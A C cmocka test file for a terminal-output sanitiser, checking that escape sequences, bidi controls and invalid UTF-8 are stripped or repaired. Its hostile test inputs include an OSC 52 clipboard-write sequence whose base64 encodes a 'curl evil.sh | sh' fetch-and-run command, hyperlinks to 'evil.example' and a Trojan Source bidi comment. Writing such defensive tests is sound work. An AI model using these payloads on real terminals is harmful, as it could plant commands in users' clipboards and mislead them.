/*
 * test-sanitize.c: cmocka tests for src/sanitize.c, the terminal sanitiser.
 *
 * Each case gives hostile input and the exact output expected. A last
 * group feeds random bytes through the sanitiser and checks the promise
 * made in sanitize.h on whatever comes out.
 *
 * Built with -DCLAUSE_WRAP_ALLOC and linked with -Wl,--wrap=malloc, the
 * out-of-memory test makes malloc() fail; otherwise it is skipped.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "sanitize.h"

#define RFFFD	"\xef\xbf\xbd"	/* U+FFFD REPLACEMENT CHARACTER */

#ifdef CLAUSE_WRAP_ALLOC
/*
 * malloc() for the code under test: fails when alloc_countdown reaches 0,
 * counting down one per call while it is positive.
 */
void *__real_malloc(size_t size);
void *__wrap_malloc(size_t size);

static int alloc_countdown = -1;	/* calls left before a failure; -1: never fail */

void *
__wrap_malloc(size_t size)
{
	if (alloc_countdown == 0)
		return NULL;
	if (alloc_countdown > 0)
		alloc_countdown--;
	return __real_malloc(size);
}
#endif

/*
 * Sanitise in (len bytes) with flags and check that the result is exactly
 * want, both through the string and through *out_len.
 */
static void
check(const char *in, size_t len, unsigned flags, const char *want)
{
	size_t out_len = (size_t) -1;
	char *out;

	out = sanitize_text(in, len, flags, &out_len);
	assert_non_null(out);
	assert_string_equal(out, want);
	assert_int_equal(out_len, strlen(want));
	free(out);
}

/* CHECK on a string literal: its length comes from sizeof, so NULs count. */
#define CHECK(in, flags, want)	check((in), sizeof(in) - 1, (flags), (want))

/* Clean text, whatever its script, must come out byte for byte. */
static const char *const clean_texts[] = {
	"Hello, world. Terms apply (see section 4.2) & 100% of $5 ~ {ok} | [x]",
	"\xe5\x88\xa9\xe7\x94\xa8\xe8\xa6\x8f\xe7\xb4\x84",	/* 利用規約 */
	"\xf0\x9f\x98\x80\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd",	/* 😀 👍 + skin tone */
	"\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9",	/* man ZWJ woman */
	"e\xcc\x81 a\xcc\x8a\xcc\x81 \xe0\xa4\x95\xe0\xa5\x8d",	/* é ǻ क् (combining) */
	"\xee\x80\x80highlight\xee\x80\x81",	/* U+E000 ... U+E001 */
	"\xc2\xa0\xc2\xa9\xc3\xa9\xc3\x9f\xe2\x82\xac",	/* NBSP © é ß € */
	RFFFD "\xf4\x8f\xbf\xbf\xf0\x90\x80\x80\xef\xbb\xbf",	/* U+FFFD U+10FFFF U+10000 U+FEFF */
	"\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7",	/* Hebrew, Arabic */
	"\xe2\x80\x8b\xe2\x80\x8d\xe2\x81\xa5\xe2\x81\xaa\xe2\x80\xa9",	/* U+200B 200D 2065 206A 2029: not bidi controls */
	"\xc2\xa0\xc2\xbf\xdf\xbf\xe0\xa0\x80\xed\x9f\xbf\xee\x80\x80",	/* range edges: U+00A0 U+00BF U+07FF U+0800 U+D7FF U+E000 */
	"",
};

static void
test_clean_passes(void **state)
{
	size_t i;

	(void) state;
	for (i = 0; i < sizeof(clean_texts) / sizeof(clean_texts[0]); i++) {
		check(clean_texts[i], strlen(clean_texts[i]), 0, clean_texts[i]);
		check(clean_texts[i], strlen(clean_texts[i]), SANITIZE_KEEP_NEWLINES, clean_texts[i]);
	}
	CHECK("line one\nline two\n\nline four\n", SANITIZE_KEEP_NEWLINES,
	    "line one\nline two\n\nline four\n");
}

static void
test_c0_controls(void **state)
{
	(void) state;
	CHECK("a\x01" "b\x07" "c\x08" "d\x7f" "e\x1f" "f\x0b\x0c", 0, "abcdef");
	CHECK("a\0b\0\0c", 0, "abc");	/* NUL within len */
	CHECK("\0", 0, "");
	CHECK("a\tb\t\tc", 0, "a b  c");
	CHECK("\t", SANITIZE_KEEP_NEWLINES, " ");
}

static void
test_newlines(void **state)
{
	(void) state;
	CHECK("a\nb", 0, "a b");
	CHECK("a\nb", SANITIZE_KEEP_NEWLINES, "a\nb");
	CHECK("a\r\nb\r\n", SANITIZE_KEEP_NEWLINES, "a\nb\n");
	CHECK("a\r\nb", 0, "a b");
	CHECK("a\rb", SANITIZE_KEEP_NEWLINES, "ab");
	CHECK("over\rwrite", 0, "overwrite");
}

static void
test_csi(void **state)
{
	(void) state;
	CHECK("\x1b[31mred\x1b[0m plain", 0, "red plain");
	CHECK("\x1b[38;2;255;0;0mX\x1b[m", 0, "X");
	CHECK("a\x1b[2J\x1b[H\x1b[10;20Hb\x1b[5A\x1b[3D", 0, "ab");
	CHECK("\x1b[?1049h\x1b[?25lhidden?", 0, "hidden?");
	CHECK("\x1b[1 qcursor", 0, "cursor");	/* intermediate byte */
	CHECK("\x1b[6n", 0, "");	/* device status report */
	CHECK("\x1b[>0;0c\x1b[=5u", 0, "");
	CHECK("abc\x1b[31", 0, "abc");	/* cut at the end */
	CHECK("abc\x1b[", 0, "abc");
	/* A control inside breaks it; the rest is harmless text. */
	CHECK("\x1b[31\nm", SANITIZE_KEEP_NEWLINES, "\nm");
	/* ESC inside starts a new sequence. */
	CHECK("\x1b[31\x1b[32mok", 0, "ok");
	/* Non-ASCII inside breaks it and is kept. */
	CHECK("\x1b[3\xc3\xa9", 0, "\xc3\xa9");
}

static void
test_osc(void **state)
{
	(void) state;
	/* OSC 8 hyperlinks, BEL and ST terminated. */
	CHECK("see \x1b]8;;https://evil.example/\x07terms\x1b]8;;\x07 now", 0,
	    "see terms now");
	CHECK("see \x1b]8;id=1;https://evil.example/\x1b\\terms\x1b]8;;\x1b\\ now", 0,
	    "see terms now");
	/* OSC 52: write to the clipboard. */
	CHECK("a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" "b", 0, "ab");
	CHECK("a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\b", 0, "ab");
	CHECK("a\x1b]52;c;?\x07" "b", 0, "ab");	/* clipboard read */
	/* Title set with no terminator: everything after it goes. */
	CHECK("before\x1b]0;pwned title\nand the rest\r\n", SANITIZE_KEEP_NEWLINES, "before");
	CHECK("\x1b]2;", 0, "");
	/* 8-bit ST ends it too. */
	CHECK("\x1b]0;t\xc2\x9cok", 0, "ok");
	/* ESC ends it whatever follows, as in xterm. */
	CHECK("\x1b]0;t\x1b[1mok", 0, "ok");
	/* CAN cancels it. */
	CHECK("\x1b]0;t\x18ok", 0, "ok");
	/* NUL and invalid UTF-8 inside are swallowed with it. */
	CHECK("\x1b]0;\0\xff\xc0\x07ok", 0, "ok");
}

static void
test_string_sequences(void **state)
{
	(void) state;
	CHECK("\x1bP1$r0m\x1b\\ok", 0, "ok");	/* DCS (DECRQSS reply) */
	CHECK("\x1bPq#0;2;0;0;0\x07still sixel\x1b\\ok", 0, "ok");	/* BEL does not end DCS */
	CHECK("\x1bXsos\x1b\\a\x1b^pm\x1b\\b\x1b_apc\x1b\\c", 0, "abc");
	CHECK("\x1b_Gf=100;AAAA", 0, "");	/* unterminated APC (kitty graphics) */
	CHECK("x\x1bPunterminated\nDCS", SANITIZE_KEEP_NEWLINES, "x");
}

static void
test_other_escapes(void **state)
{
	(void) state;
	CHECK("\x1b(Bx", 0, "x");	/* designate G0 */
	CHECK("\x1b" "cx", 0, "x");	/* full reset */
	CHECK("\x1b" "7x\x1b" "8", 0, "x");	/* save, restore cursor */
	CHECK("\x1b#8x", 0, "x");	/* DECALN */
	CHECK("\x1b%Gx", 0, "x");
	CHECK("\x1b\\x", 0, "x");	/* lone ST */
	CHECK("a\x1b", 0, "a");	/* lone ESC at the end */
	CHECK("a\x1b(", 0, "a");
	CHECK("\x1b\x1b[31mx", 0, "x");
	CHECK("\x1b\xc3\xa9", 0, "\xc3\xa9");	/* ESC before non-ASCII: only ESC goes */
	CHECK("\x1b\nx", SANITIZE_KEEP_NEWLINES, "\nx");
	CHECK("\x1b(\x01x", 0, "x");	/* broken after an intermediate */
}

static void
test_c1_utf8(void **state)
{
	(void) state;
	CHECK("\xc2\x9b" "31mred\xc2\x9b" "0m", 0, "red");	/* 8-bit CSI */
	CHECK("\xc2\x9b?1049h", 0, "");
	CHECK("\xc2\x9d" "0;title\xc2\x9c" "ok", 0, "ok");	/* 8-bit OSC, 8-bit ST */
	CHECK("\xc2\x9d" "8;;http://x\x07link\xc2\x9d" "8;;\x07", 0, "link");
	CHECK("\xc2\x9d" "0;unterminated", 0, "");
	CHECK("\xc2\x90" "dcs\x07still\xc2\x9c" "ok", 0, "ok");	/* 8-bit DCS */
	CHECK("\xc2\x98sos\xc2\x9c" "a\xc2\x9epm\xc2\x9c" "b\xc2\x9f" "apc\x1b\\c", 0, "abc");
	CHECK("a\xc2\x85" "b\xc2\x80" "c\xc2\x9c" "d\xc2\x9a" "e", 0, "abcde");	/* lone C1 */
	CHECK("\xc2\x8e" "x", 0, "x");	/* SS2 */
}

static void
test_raw_c1_byte(void **state)
{
	(void) state;
	/* A raw 0x9B is not UTF-8: shown as U+FFFD, and the rest as text. */
	CHECK("\x9b" "31mX", 0, RFFFD "31mX");
	CHECK("\x9d" "0;t\x07X", 0, RFFFD "0;tX");
}

static void
test_bidi(void **state)
{
	(void) state;
	CHECK("abc\xe2\x80\xae" "fed", 0, "abcfed");	/* U+202E RLO */
	CHECK("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae", 0, "");
	CHECK("\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9", 0, "");	/* U+2066..2069 */
	CHECK("a\xe2\x80\x8e" "b\xe2\x80\x8f" "c\xd8\x9c" "d", 0, "abcd");	/* LRM RLM ALM */
	/* Trojan Source: the comment must read in storage order. */
	CHECK("/*\xe2\x80\xae } \xe2\x81\xa6if (admin)\xe2\x81\xa9 \xe2\x81\xa6 begin*/", 0,
	    "/* } if (admin)  begin*/");
}

static void
test_invalid_utf8(void **state)
{
	(void) state;
	CHECK("\xc0\xaf", 0, RFFFD RFFFD);	/* overlong '/' */
	CHECK("\xe0\x80\xaf", 0, RFFFD RFFFD RFFFD);
	CHECK("\xf0\x80\x80\xaf", 0, RFFFD RFFFD RFFFD RFFFD);
	CHECK("\xc1\xbf", 0, RFFFD RFFFD);
	CHECK("\xed\xa0\x80", 0, RFFFD RFFFD RFFFD);	/* U+D800 */
	CHECK("\xed\xbf\xbf", 0, RFFFD RFFFD RFFFD);	/* U+DFFF */
	CHECK("\xf4\x90\x80\x80", 0, RFFFD RFFFD RFFFD RFFFD);	/* U+110000 */
	CHECK("\xf5\x80\x80\x80", 0, RFFFD RFFFD RFFFD RFFFD);
	CHECK("\xff\xfe", 0, RFFFD RFFFD);
	CHECK("a\x80" "b\xbf", 0, "a" RFFFD "b" RFFFD);	/* stray continuations */
	/* Truncated: one U+FFFD for the maximal subpart. */
	CHECK("ab\xe2\x82", 0, "ab" RFFFD);
	CHECK("ab\xf0\x9f\x98", 0, "ab" RFFFD);
	CHECK("ab\xc3", 0, "ab" RFFFD);
	CHECK("\xe2\x82X", 0, RFFFD "X");
	CHECK("\xf0\x9f\x98\xf0\x9f\x98\x80", 0, RFFFD "\xf0\x9f\x98\x80");
	CHECK("\xe2\x82\xe2\x82\xac", 0, RFFFD "\xe2\x82\xac");
	/* An invalid byte cannot hide an ESC after it. */
	CHECK("\xc3\x1b[31mX", 0, RFFFD "X");
	/* The example from Unicode 15, table 3-8. */
	CHECK("\x61\xf1\x80\x80\xe1\x80\xc2\x62\x80\x63\x80\xbf\x64", 0,
	    "a" RFFFD RFFFD RFFFD "b" RFFFD "c" RFFFD RFFFD "d");
}

static void
test_api(void **state)
{
	char *out;

	(void) state;
	out = sanitize_text("a\x1b[1mb", 6, 0, NULL);	/* out_len may be NULL */
	assert_non_null(out);
	assert_string_equal(out, "ab");
	free(out);

	out = sanitize_text("abcdef", 3, 0, NULL);	/* only len bytes are read */
	assert_non_null(out);
	assert_string_equal(out, "abc");
	free(out);

	CHECK("", 0, "");
	out = sanitize_cstr("\x1b]0;x\x07title\ttext\n", 0);
	assert_non_null(out);
	assert_string_equal(out, "title text ");
	free(out);
}

/*
 * Decode one strictly valid UTF-8 character at s (len >= 1 bytes) into
 * *cp. Returns its length, or 0 if it is not valid. Written apart from
 * sanitize.c's decoder, on purpose.
 */
static size_t
strict_decode(const unsigned char *s, size_t len, uint32_t *cp)
{
	size_t n, i;
	uint32_t v;

	if (s[0] < 0x80) {
		*cp = s[0];
		return 1;
	}
	if ((s[0] & 0xE0) == 0xC0) {
		n = 2;
		v = s[0] & 0x1F;
	} else if ((s[0] & 0xF0) == 0xE0) {
		n = 3;
		v = s[0] & 0x0F;
	} else if ((s[0] & 0xF8) == 0xF0) {
		n = 4;
		v = s[0] & 0x07;
	} else {
		return 0;
	}
	if (n > len)
		return 0;
	for (i = 1; i < n; i++) {
		if ((s[i] & 0xC0) != 0x80)
			return 0;
		v = (v << 6) | (s[i] & 0x3F);
	}
	if ((n == 2 && v < 0x80) || (n == 3 && v < 0x800) || (n == 4 && v < 0x10000))
		return 0;	/* overlong */
	if ((v >= 0xD800 && v <= 0xDFFF) || v > 0x10FFFF)
		return 0;
	*cp = v;
	return n;
}

/*
 * Check what sanitize.h promises of any output: valid UTF-8, no control
 * but '\n' (and that only with SANITIZE_KEEP_NEWLINES), no C1, no bidi
 * control, no NUL before the end.
 */
static void
assert_safe(const char *out, size_t len, unsigned flags)
{
	const unsigned char *u = (const unsigned char *) out;
	size_t i = 0, n;
	uint32_t cp = 0;

	assert_int_equal(strlen(out), len);
	while (i < len) {
		n = strict_decode(u + i, len - i, &cp);
		assert_int_not_equal(n, 0);
		if (cp == '\n')
			assert_true(flags & SANITIZE_KEEP_NEWLINES);
		else
			assert_false(cp < 0x20);
		assert_false(cp >= 0x7F && cp <= 0x9F);
		assert_false(cp == 0x061C || cp == 0x200E || cp == 0x200F);
		assert_false(cp >= 0x202A && cp <= 0x202E);
		assert_false(cp >= 0x2066 && cp <= 0x2069);
		i += n;
	}
}

/*
 * Random input, biased towards the bytes that matter (ESC, '[', ']', BEL,
 * '\\', C1 lead bytes, UTF-8 lead and continuation bytes): the output is
 * always safe, and sanitising it again changes nothing.
 */
static void
test_random_input(void **state)
{
	static const unsigned char interesting[] = {
		0x1b, '[', ']', 'P', '\\', 0x07, 0x9b, 0xc2, 0x9c, 0x9d, 0x80, 0xbf,
		0xe2, 0x80, 0xae, 0xed, 0xa0, 0xf0, 0xf4, 0x90, 0x00, '\n', '\r', '\t',
		'a', ' ', '3', 'm', ';', 0xe5, 0x88, 0xd8,
	};
	unsigned char in[64];
	uint32_t seed = 12345;
	size_t len, out_len, again_len, i;
	char *out, *again;
	unsigned flags;
	int round;

	(void) state;
	for (round = 0; round < 20000; round++) {
		seed = seed * 1103515245u + 12345u;
		len = (seed >> 16) % sizeof(in);
		for (i = 0; i < len; i++) {
			seed = seed * 1103515245u + 12345u;
			if ((seed >> 16) & 1)
				in[i] = interesting[(seed >> 17) % sizeof(interesting)];
			else
				in[i] = (unsigned char) (seed >> 20);
		}
		flags = round & 1 ? SANITIZE_KEEP_NEWLINES : 0;

		out = sanitize_text((const char *) in, len, flags, &out_len);
		assert_non_null(out);
		assert_safe(out, out_len, flags);

		again = sanitize_text(out, out_len, flags, &again_len);
		assert_non_null(again);
		assert_int_equal(again_len, out_len);
		assert_memory_equal(again, out, out_len);
		free(again);
		free(out);
	}
}

static void
test_out_of_memory(void **state)
{
	(void) state;
#ifdef CLAUSE_WRAP_ALLOC
	alloc_countdown = 0;
	assert_null(sanitize_text("abc", 3, 0, NULL));
	assert_null(sanitize_cstr("abc", 0));
	alloc_countdown = -1;
#else
	skip();
#endif
}

/* SANITIZE_ENCODING_ONLY mends the encoding and keeps every character,
 * controls included: it is for JSON, which escapes them itself. */
static void
test_encoding_only(void **state)
{
	(void)state;
	CHECK("a\x1b[31mb\x07\tc\n", SANITIZE_ENCODING_ONLY, "a\x1b[31mb\x07\tc\n");
	CHECK("x\xe2\x80\xaey", SANITIZE_ENCODING_ONLY, "x\xe2\x80\xaey");
	CHECK("bad \x9b byte", SANITIZE_ENCODING_ONLY, "bad " RFFFD " byte");
	CHECK("nul\0here", SANITIZE_ENCODING_ONLY, "nulhere");
	CHECK("\xc0\xaf", SANITIZE_ENCODING_ONLY, RFFFD RFFFD);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clean_passes),
		cmocka_unit_test(test_c0_controls),
		cmocka_unit_test(test_newlines),
		cmocka_unit_test(test_csi),
		cmocka_unit_test(test_osc),
		cmocka_unit_test(test_string_sequences),
		cmocka_unit_test(test_other_escapes),
		cmocka_unit_test(test_c1_utf8),
		cmocka_unit_test(test_raw_c1_byte),
		cmocka_unit_test(test_bidi),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_encoding_only),
		cmocka_unit_test(test_api),
		cmocka_unit_test(test_random_input),
		cmocka_unit_test(test_out_of_memory),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
